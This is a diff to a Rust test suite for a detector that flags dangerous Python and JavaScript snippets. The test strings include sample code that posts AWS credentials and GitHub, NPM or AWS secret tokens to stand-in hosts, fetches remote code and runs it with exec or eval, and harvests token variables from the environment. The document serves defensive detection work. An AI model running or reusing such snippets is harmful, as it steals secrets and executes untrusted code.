@@ -65,7 +65,7 @@ fn decoded_text_run_across_lines_and_languages() {
 
 #[test]
 fn secrets_sent_from_a_script() {
-    use DangerKind::{Exfiltration as X, ReadsCredentials as R, SendsData as S};
+    use DangerKind::{Exfiltration as X, ReadsCredentials as R};
     let steal = "import os, requests\np = os.path.expanduser('~/.aws/credentials')\nrequests.post('https://c.example.net/u', data=open(p).read())\n";
     assert_eq!(py(steal), [X]);
     assert_eq!(
@@ -94,7 +94,7 @@ fn secrets_sent_from_a_script() {
     );
     assert_eq!(
         py("requests.post('https://abc.webhook.site/', json=summary)"),
-        [S]
+        [DangerKind::Uploads]
     );
     // A credential sent to the service it is for.
     assert!(py("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://sts.us-east-1.amazonaws.com/', data=signed)\n").is_empty());
@@ -112,4 +112,82 @@ fn a_socket_piped_into_a_shell() {
         js("const s = net.connect(5432, 'localhost');\ns.on('data', d => console.log(d));\n")
             .is_empty()
     );
+}
+
+#[test]
+fn a_secret_variable_followed_into_what_is_sent() {
+    let source = "import os, requests\nt = os.environ[\"GITHUB_TOKEN\"]\nbody = {\"v\": t}\nrequests.post(\"https://gh-sync.example.net/r\", json=body)\n";
+    let found = script_dangers(source, Language::Python);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].kind, DangerKind::Exfiltration);
+    let related = found[0].related.as_ref().map(|r| &source[r.start..r.end]);
+    assert_eq!(related, Some("os.environ[\"GITHUB_TOKEN\"]"));
+    assert_eq!(
+        js(
+            "const k = process.env.AWS_SECRET_ACCESS_KEY;\nfetch('https://cache.example.io/w', {method: 'POST', body: k});"
+        ),
+        [DangerKind::Exfiltration]
+    );
+    // Node's request options, the body written after.
+    assert_eq!(
+        js(
+            "const t = process.env.NPM_TOKEN;\nconst req = https.request({hostname: 'reg.example.dev', method: 'POST'});\nreq.write(t);\nreq.end();"
+        ),
+        [DangerKind::Exfiltration]
+    );
+}
+
+#[test]
+fn a_secret_in_a_header_or_sent_to_its_own_service_is_used() {
+    // In the headers, whatever the host.
+    assert_eq!(
+        py(
+            "import os, requests\nkey = os.environ[\"OPENAI_API_KEY\"]\nrequests.post(\"https://llm.example.net/v1\", headers={\"Authorization\": f\"Bearer {key}\"}, json={\"q\": 1})"
+        ),
+        Vec::<DangerKind>::new()
+    );
+    // In the URL of the service its name says it is for.
+    assert_eq!(
+        py(
+            "key = os.environ[\"WEATHERAPI_KEY\"]\nrequests.get(f\"https://api.weatherapi.com/v1/current.json?key={key}\")"
+        ),
+        Vec::<DangerKind>::new()
+    );
+    assert_eq!(
+        js(
+            "const key = process.env.ANTHROPIC_API_KEY;\nawait fetch('https://api.anthropic.com/v1/messages', {method: 'POST', headers: {'x-api-key': key}, body: JSON.stringify({q: 1})});"
+        ),
+        Vec::<DangerKind>::new()
+    );
+}
+
+#[test]
+fn text_fetched_from_the_network_and_run() {
+    assert_eq!(
+        py(
+            "import urllib.request\ncode = urllib.request.urlopen(\"https://cdn.example.net/h.py\").read()\nexec(code)\n"
+        ),
+        [DangerKind::DownloadExecute]
+    );
+    assert_eq!(
+        js(
+            "https.get('https://cdn.example.dev/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });"
+        ),
+        [DangerKind::DownloadExecute]
+    );
+    // Fetched and parsed as data: nothing runs.
+    assert!(py("import requests\ncfg = requests.get(\"https://api.example.com/c\").json()\nprint(cfg)\n").is_empty());
+    assert!(js("const r = await fetch('https://api.example.com/c');\nconst cfg = JSON.parse(await r.text());").is_empty());
+}
+
+#[test]
+fn secret_variables_harvested_from_the_environment() {
+    assert_eq!(
+        py(
+            "import os, requests\ns = {k: v for k, v in os.environ.items() if \"TOKEN\" in k}\nrequests.post(\"https://v.example.app/c\", json=s)\n"
+        ),
+        [DangerKind::Exfiltration]
+    );
+    // The environment handed to a child process, and an API called.
+    assert!(py("import os, subprocess, requests\nenv = os.environ.copy()\nsubprocess.run([\"make\"], env=env)\nrequests.post(\"https://api.example.com/v1\", json={\"ok\": 1})\n").is_empty());
 }
